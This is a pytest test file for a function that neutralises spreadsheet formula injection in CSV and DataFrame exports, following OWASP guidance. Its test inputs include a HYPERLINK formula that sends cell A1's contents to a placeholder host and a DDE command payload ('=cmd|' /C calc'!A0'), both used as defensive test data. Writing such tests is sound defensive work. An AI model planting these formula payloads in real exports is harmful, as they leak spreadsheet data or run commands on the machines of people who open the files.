"""Formula-injection neutralising for exports (OWASP CSV injection guidance)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from scoring.safe_text import TRIGGERS, needs_neutralising, neutralise, neutralise_frame


@pytest.mark.parametrize(("value", "expected"), [
    ('=HYPERLINK("http://contoh.test/?"&A1,"klik")',
     '\'=HYPERLINK("http://contoh.test/?"&A1,"klik")'),
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-5", "'-5"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Dinas Kesehatan", "Dinas Kesehatan"),
    ("85,50", "85,50"),
    (" =1+1", " =1+1"),  # a leading space is text to every spreadsheet
    ("a=b", "a=b"),
    ("", ""),
    ("'=already", "'=already"),
])
def test_text_starting_with_a_trigger_gets_a_quote(value: str, expected: str) -> None:
    assert neutralise(value) == expected


@pytest.mark.parametrize("value", [-5, 5, 0, -5.5, float("inf"), Decimal("-1.25"),
                                   np.int64(-3), np.float64(-2.5), True, False])
def test_numbers_stay_numbers(value: object) -> None:
    result = neutralise(value)
    assert result is value


def test_none_and_other_values_are_left_alone() -> None:
    assert neutralise(None) is None
    day = pd.Timestamp("2026-11-30")
    assert neutralise(day) is day


def test_the_trigger_list_is_owasps() -> None:
    assert TRIGGERS == ("=", "+", "-", "@", "\t", "\r")
    assert needs_neutralising("-5") and not needs_neutralising(-5)


def test_frame_neutralises_text_columns_only() -> None:
    frame = pd.DataFrame({
        "nama": ["=HYPERLINK(\"x\")", "Dinkes", "-5"],
        "campur": [-5, "+1", "@SUM(A1)"],
        "nilai": [-5, 80, 90],
        "rata": [-1.5, 85.25, 90.0],
        "kategori": pd.Categorical(["-a", "b", "-a"]),
        "=judul": [True, False, True],
    })
    result = neutralise_frame(frame)
    assert list(result["nama"]) == ["'=HYPERLINK(\"x\")", "Dinkes", "'-5"]
    assert list(result["campur"]) == [-5, "'+1", "'@SUM(A1)"]
    assert isinstance(result["campur"].iloc[0], int)
    assert list(result["nilai"]) == [-5, 80, 90]
    assert result["nilai"].dtype == frame["nilai"].dtype
    assert list(result["rata"]) == [-1.5, 85.25, 90.0]
    assert list(result["kategori"]) == ["'-a", "b", "'-a"]
    assert list(result.columns) == ["nama", "campur", "nilai", "rata", "kategori", "'=judul"]
    # the input is not changed
    assert frame["nama"].iloc[0] == "=HYPERLINK(\"x\")"
    assert list(frame.columns)[-1] == "=judul"


def test_frame_keeps_missing_values_and_string_dtype() -> None:
    frame = pd.DataFrame({"a": pd.Series(["-x", None, "y"], dtype="string")})
    result = neutralise_frame(frame, header=False)
    assert result["a"].dtype == frame["a"].dtype
    assert result["a"].iloc[0] == "'-x"
    assert pd.isna(result["a"].iloc[1])
    assert result["a"].iloc[2] == "y"


def test_a_neutralised_csv_reads_back_as_text() -> None:
    frame = neutralise_frame(pd.DataFrame({"nama": ["=cmd|' /C calc'!A0", "-5"],
                                           "nilai": [-5, 7]}))
    text = frame.to_csv(index=False, lineterminator="\n")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["nama", "nilai"], ["'=cmd|' /C calc'!A0", "-5"], ["'-5", "7"]]


@given(st.text())
def test_no_neutralised_text_starts_with_a_trigger(text: str) -> None:
    result = neutralise(text)
    assert isinstance(result, str)
    assert not result.startswith(TRIGGERS)
    assert result in (text, "'" + text)
